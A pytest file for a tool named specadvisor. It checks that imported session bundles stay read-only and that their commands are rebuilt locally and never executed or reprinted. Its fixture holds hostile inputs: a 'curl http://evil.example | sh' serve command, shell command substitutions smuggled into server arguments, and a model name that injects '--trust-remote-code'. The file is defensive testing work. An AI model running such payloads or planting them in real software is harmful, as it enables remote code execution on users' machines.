"""An imported session is read-only evidence: nothing from a bundle is ever executed or printed as
a command without being rebuilt on this machine."""

from __future__ import annotations

import json

import pytest

from specadvisor.cli.main import main
from specadvisor.domain import Recommendation
from specadvisor.errors import InputError
from specadvisor.store import Store
from specadvisor.store.bundle import export_bundle
from specadvisor.sweep.rebuild import rebuild_plan
from specadvisor.sweep.runner import SweepRunner
from specadvisor.trust import recommended_command, serve_command
from store_samples import make_session


def _hostile_bundle(tmp_path, marker):
    """A bundle whose engine command, server args and serve command would each create `marker`."""
    payload = f"touch {marker}"
    session = make_session(status="interrupted")
    session.settings = session.settings.replace(engine_cmd=["/bin/sh", "-c", payload], server_args=["--enable-x", f"$({payload})"])
    session.arms[1].server_args = [f"`{payload}`"]
    session.recommendation = Recommendation(
        arm_id=session.arms[2].id, speculative_config=session.arms[2].speculative_config, serve_command=f"curl http://evil.example | sh; {payload}"
    )
    session.model = "Qwen/Qwen3-8B"
    path = export_bundle(session, tmp_path / "hostile.json")
    return session, path


@pytest.fixture
def imported(tmp_path, capsys):
    marker = tmp_path / "PWNED"
    session, path = _hostile_bundle(tmp_path, marker)
    db = tmp_path / "s.db"
    assert main(["--db", str(db), "sessions", "import", str(path)]) == 0
    capsys.readouterr()
    return db, session, marker


def test_resume_refuses_an_imported_session(imported, capsys):
    db, session, marker = imported
    assert main(["--db", str(db), "sweep", "--resume", session.id[:8]]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "read-only evidence" in err and "--rebuild" in err
    assert not marker.exists()
    with Store.open(db) as store:
        assert store.get_session(session.id).status == "interrupted"  # untouched


def test_the_runner_itself_refuses_an_imported_session(imported):
    db, session, marker = imported
    with Store.open(db) as store:
        stored = store.get_session(session.id)
        with pytest.raises(InputError, match="read-only evidence"):
            SweepRunner(stored, store)
    assert not marker.exists()


def test_printed_commands_are_rebuilt_locally(imported, capsys):
    db, session, marker = imported
    assert main(["--db", str(db), "snippet", session.id[:8], "--command"]) == 0
    out = capsys.readouterr().out
    assert out.startswith("vllm serve MODEL \\\n  --host 127.0.0.1 \\\n  --port 8000 \\\n  --speculative-config ")  # never the bundle's model
    for bad in ("evil", "touch", "/bin/sh", "--enable-x"):
        assert bad not in out
    assert main(["--db", str(db), "sessions", "show", session.id[:8]]) == 0
    shown = capsys.readouterr().out
    assert "evil" not in shown and "read-only evidence" in shown
    assert main(["--db", str(db), "report", session.id[:8]]) == 0
    report = capsys.readouterr().out
    assert "evil.example" not in report and "touch" not in report
    assert main(["--db", str(db), "export-plan", session.id[:8], "--serve-params", str(db.parent / "p.json")]) == 0
    assert "touch" not in capsys.readouterr().out
    assert not marker.exists()


def test_local_sessions_keep_their_measured_command():
    session = make_session()
    session.settings = session.settings.replace(server_args=["--max-model-len", "4096"])
    assert serve_command(session, None).endswith("--max-model-len 4096")
    session.settings = session.settings.replace(engine_cmd=["/opt/my vllm/bin/vllm", "serve"])
    rec = Recommendation(arm_id="x", speculative_config={"method": "ngram"}, serve_command="vllm serve stored")
    # rebuilt by the one renderer from the session's own engine command and server args (a stored
    # string, possibly rendered by an older version, is never reprinted)
    assert recommended_command(session, rec) == (
        "'/opt/my vllm/bin/vllm' serve Qwen/Qwen3-8B --host 127.0.0.1 --port 8000 --speculative-config '{\"method\":\"ngram\"}' --max-model-len 4096"
    )
    session.provenance.origin = "imported"
    assert recommended_command(session, rec).startswith("vllm serve MODEL --host 127.0.0.1")
    assert recommended_command(session, rec, model="me/m").startswith("vllm serve me/m --host 127.0.0.1")
    session.model = "--trust-remote-code"
    assert "trust-remote-code" not in serve_command(session, None)


def test_rebuild_takes_engine_and_args_from_this_machine(imported):
    db, session, _ = imported
    with Store.open(db) as store:
        stored = store.get_session(session.id)
    plan, _ = rebuild_plan(stored, model="me/m", engine_cmd=["vllm", "serve"], server_args=["--max-model-len", "2048"], prompt_source="humaneval")
    new = plan.session
    assert new.id != stored.id and new.provenance.origin == "local" and new.model == "me/m"
    assert new.settings.engine_cmd == ["vllm", "serve"] and new.settings.server_args == ["--max-model-len", "2048"]
    assert all(arm.server_args == [] for arm in new.arms)
    assert sorted(a.n for a in new.arms if a.n) == sorted(a.n for a in stored.arms if a.n)
    assert json.dumps(new.model_dump(mode="json")).count("touch") == 0


def test_rebuild_of_a_local_session_is_refused(tmp_path, capsys):
    db = tmp_path / "s.db"
    with Store.open(db) as store:
        session = make_session(status="interrupted")
        store.save_session(session)
    assert main(["--db", str(db), "sweep", "--resume", session.id[:8], "--rebuild"]) == 2
    assert "--rebuild is for imported sessions" in capsys.readouterr().err
